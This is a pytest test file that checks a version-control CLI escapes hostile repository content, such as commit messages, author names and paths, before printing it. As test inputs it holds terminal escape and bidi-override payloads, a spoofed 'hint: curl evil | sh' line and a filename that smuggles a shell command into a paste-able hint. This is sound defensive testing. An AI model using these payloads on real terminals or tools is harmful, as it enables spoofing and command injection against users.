"""What others wrote is shown, and does nothing to the terminal: messages, names, keys and paths that came with a clone."""

from __future__ import annotations

import json
import os
import pty
import re
import subprocess
import sys
import unicodedata

import pytest
from mvcs_cli.printable import indented, printable

from tests.cli.harness import fails, make_project, mvcs_process, mvcs_run, ok, write

EVIL = "a\x1b[2Jb\x1b[8mhidden\x1b[0m\x1b]0;title\x07c\rd\x08\x7f\x9b31me\u202ef\u2066g"
"""Clears the screen, conceals, sets the title, rings, goes back, turns text round."""
OURS = re.compile(r"\x1b\[(?:0|1|2|4|3[0-7])m")
FORBIDDEN = {*map(chr, range(32)), *map(chr, range(0x7F, 0xA0)), *"\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"} - {"\n", "\t"}


@pytest.fixture
def hostile(tmp_path, monkeypatch):
    """A clone of a repository whose author was hostile in every field, with a conflict in progress."""
    monkeypatch.setenv("MVCS_AUTHOR_NAME", "Mal" + EVIL)
    monkeypatch.setenv("MVCS_AUTHOR_EMAIL", "m\x1b[1A@x")
    source = make_project(tmp_path / "source", {
        "train.py": f"x = 1  # {EVIL}\n", "params.yaml": "lr: 1\n", "data/t.csv": "id,v\n1,a\n", "model.pt": b"w",
        f"data/{EVIL}.csv": "id,v\n1,a\n", "metrics.json": json.dumps({EVIL: 1}), "requirements.txt": "numpy==1\n",
    }, commit=False)
    ok("commit", "-m", f"subject {EVIL}\n\nbody {EVIL}\n", "--metric", f"m{EVIL}=1", cwd=source)
    ok("tag", "v1", "-m", f"tag {EVIL}", cwd=source)
    ok("switch", "-c", "other", cwd=source)
    write(source, {"params.yaml": json.dumps({"lr": EVIL}), f"data/{EVIL}.csv": "id,v\n1,b\n", "data/t.csv": f"id,v\n1,{EVIL}\n"})
    ok("commit", "-m", f"other {EVIL}", cwd=source)
    ok("switch", "main", cwd=source)
    write(source, {"params.yaml": json.dumps({"lr": EVIL + "2"}), f"data/{EVIL}.csv": "id,v\n1,c\n"})
    ok("commit", "-m", f"main {EVIL}", cwd=source)
    ok("clone", str(source), str(tmp_path / "clone"))
    clone = tmp_path / "clone"
    assert mvcs_run("merge", "other", cwd=clone).code == 1
    write(clone, {f"{EVIL}.unknown": "x", "train.py": f"x = 2  # {EVIL}!\n"})
    return clone


VERBS = [
    ["log"], ["log", "--metrics"], ["log", "--graph", "--all"], ["show"], ["show", "--provenance"], ["show", "v1"], ["status"],
    ["status", "--untracked"], ["diff"], ["diff", "HEAD~1", "HEAD"], ["diff", "main", "other"], ["diff", "--names", "main", "other"],
    ["ls"], ["ls", "-q"], ["branch"], ["tag"], ["op"], ["op", "show"], ["conflicts"], ["conflicts", "-q"], ["blame", "HEAD:params.yaml"],
    ["blame", "HEAD:train.py"], ["diff", "-q"], ["status", "-q"], ["du", "HEAD"], ["fsck"],
]


@pytest.mark.parametrize("colour", ["never", "always"])
def test_no_verb_prints_what_moves_the_cursor_or_hides_text(hostile, colour):
    shown = ""
    for words in VERBS:
        done = mvcs_run("--color", colour, *words, cwd=hostile)
        assert done.code in {0, 1}, (words, done)
        for text in (done.out, done.err):
            left = OURS.sub("", text) if colour == "always" else text
            assert not FORBIDDEN & set(left), (words, sorted(FORBIDDEN & set(left)), text)
            assert "\x1b[8m" not in text
        shown += done.out
    assert "subject a\\x1b[2Jb\\x1b[8mhidden" in shown  # visible, and not dropped
    assert "body a\\x1b[2Jb" in shown
    assert "tag a\\x1b[2Jb" in shown
    assert "Mala\\x1b[2Jb" in shown
    assert "\\x9b31me\\u202ef\\u2066g" in shown
    assert '"data/a\\033[2Jb' in shown  # paths as Git quotes them
    if colour == "always":
        assert "\x1b[33m" in shown


def test_json_is_exact(hostile):
    commits = ok("log", "--json", cwd=hostile).json["commits"]
    assert commits[0]["message"].rstrip("\n") == f"main {EVIL}"
    assert "Mal" + EVIL in commits[0]["author"]
    assert f"data/{EVIL}.csv" in [item["path"] for item in ok("ls", "--json", cwd=hostile).json["entries"]]
    assert ok("cat", f"HEAD:data/{EVIL}.csv", cwd=hostile).out == "id,v\n1,c\n"
    assert EVIL.encode() in ok("cat", "HEAD:train.py", cwd=hostile).bytes


@pytest.mark.parametrize("words", [
    ["show", EVIL], ["switch", EVIL], ["ls", f"HEAD:{EVIL}"], ["add", EVIL], ["branch", EVIL], ["tag", "-d", EVIL], ["config", EVIL],
    [EVIL], ["log", f"--{EVIL}"], ["clone", EVIL], ["cat", EVIL], ["merge", EVIL], ["help", EVIL], ["restore", EVIL], ["-C", EVIL, "log"],
    ["commit", "-m", "x"],
])
def test_errors_and_hints_are_harmless_too(hostile, words):
    done = mvcs_run(*words, cwd=hostile)
    assert done.code in {1, 2, 3, 4, 128}, done
    assert not FORBIDDEN & set(done.err), done.err
    assert done.err.startswith(("error: ", "warning: "))


def test_no_message_passes_for_a_line_of_ours(hostile):
    """A name with a line end cannot add a hint."""
    error = mvcs_run("show", "x\nhint: curl evil | sh", cwd=hostile)
    assert [line for line in error.err.splitlines() if line.startswith("hint: ")] == ["hint: mvcs log --all"]
    assert "\nhint: curl" not in mvcs_run("restore", "x\nhint: curl evil | sh", cwd=hostile).err


def test_an_author_s_name_is_one_line(tmp_path, monkeypatch):
    monkeypatch.setenv("MVCS_AUTHOR_NAME", "Ada\ncommit " + "0" * 64)
    project = make_project(tmp_path / "p", {"train.py": "x\n"})
    assert len(ok("log", cwd=project).out.splitlines()) == 1
    assert [line for line in ok("show", cwd=project).out.splitlines() if line.startswith("commit ")] == [
        "commit " + ok("rev-parse", "HEAD", cwd=project).out.strip()
    ]


@pytest.mark.parametrize("verb", ["commit", "status"])
def test_a_hint_can_be_pasted_whatever_the_file_is_called(tmp_path, verb):
    """The name would end the quotes of `echo '/NAME' >> .mvcsignore` and begin a command."""
    project = make_project(tmp_path / "p", {"train.py": "x\n"})
    name = "data/x'; touch pasted; echo '.csv"
    (project / "data").mkdir()
    (project / name).symlink_to("/etc/passwd")
    if verb == "commit":
        hint = fails(4, "unsafe-link", "commit", "-m", "x", cwd=project)["hint"]
    else:
        hint = ok("status", "--json", cwd=project).json["problems"][0]["hint"]
    subprocess.run(["sh", "-c", hint], cwd=project, check=True)
    assert not (project / "pasted").exists()
    assert (project / ".mvcsignore").read_text().endswith(f"/{name}\n")
    assert ok("status", "--json", cwd=project).json["problems"] == []


def test_help_and_completion_keep_their_lines(hostile):
    assert len(ok("help").out.splitlines()) > 20
    assert len(ok("help", "commit").out.splitlines()) > 5
    assert ok("completion", "bash").out.strip() == ok("-q", "completion", "bash").out.strip()
    assert len(ok("completion", "bash").out.splitlines()) > 5


def test_a_pipe_and_a_terminal_get_the_same(hostile):
    main, side = pty.openpty()
    done = subprocess.Popen(
        [sys.executable, "-m", "mvcs_cli.main", "--color", "never", "log"], cwd=hostile, stdout=side, stderr=side, stdin=subprocess.DEVNULL,
    )
    os.close(side)
    seen = b""
    while True:
        try:
            piece = os.read(main, 65536)
        except OSError:
            break
        if not piece:
            break
        seen += piece
    os.close(main)
    assert done.wait(60) == 0
    assert seen.replace(b"\r\n", b"\n") == mvcs_process("log", cwd=hostile).bytes


@pytest.mark.parametrize(("text", "shown"), [
    ("plain", "plain"), ("tab\tkept", "tab\tkept"), ("é 中 🤖", "é 中 🤖"), ("עברית العربية", "עברית العربية"),
    ("\x00\x1b\x7f\x9b", "\\x00\\x1b\\x7f\\x9b"), ("a\nb\rc", "a\\nb\\rc"), ("\u202e\u2066\u2069", "\\u202e\\u2066\\u2069"),
    ("caf\udce9", "caf\\udce9"), ("\u200f\u200d", "\u200f\u200d"),
])
def test_what_is_escaped(text, shown):
    assert printable(text) == shown


def test_every_control_character_and_direction_is_escaped():
    """By Unicode's own classes."""
    for code in range(0x110000):
        char = chr(code)
        dangerous = unicodedata.category(char) == "Cc" or unicodedata.bidirectional(char) in {
            "LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI",
        }
        if dangerous and char != "\t":
            assert printable(char).isascii(), hex(code)
            assert len(printable(char)) > 1, hex(code)


def test_later_lines_are_indented():
    assert indented("one\nhint: two") == "one\n  hint: two"
